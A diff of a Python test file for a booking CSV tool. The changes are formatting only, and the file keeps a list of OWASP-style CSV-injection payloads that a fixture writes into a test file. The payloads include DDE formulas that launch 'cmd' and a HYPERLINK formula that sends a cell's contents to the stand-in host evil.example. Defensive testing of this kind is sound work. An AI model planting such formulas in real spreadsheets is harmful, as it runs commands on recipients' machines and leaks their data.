@@ -32,7 +32,7 @@ HEADER = "Ref;Guest;Arrive;Leave;Pax;Total;Cur;State\n"
 # OWASP's CSV-injection examples and their kin: each would run in Excel or LibreOffice
 PAYLOADS = [
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -44,9 +44,7 @@ FORGED = "records: 5  valid: 5  invalid: 0  with warnings: 0"
 
 
 def cli(*args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "booking_desktop", *args], capture_output=True, text=True, timeout=120
-    )
+    return subprocess.run([sys.executable, "-m", "booking_desktop", *args], capture_output=True, text=True, timeout=120)
 
 
 def quoted(cell: str) -> str:
@@ -55,9 +53,7 @@ def quoted(cell: str) -> str:
 
 @pytest.fixture()
 def injection_file(tmp_path: Path) -> tuple[Path, Path]:
-    rows = [
-        f"A-{i:03};Guest {i};2024-05-01;2024-05-04;2;100.00;EUR;{quoted(p)}\n" for i, p in enumerate(PAYLOADS)
-    ]
+    rows = [f"A-{i:03};Guest {i};2024-05-01;2024-05-04;2;100.00;EUR;{quoted(p)}\n" for i, p in enumerate(PAYLOADS)]
     f = tmp_path / "acme.csv"
     f.write_text(HEADER + "".join(rows), encoding="utf-8")
     p = tmp_path / "acme.yaml"
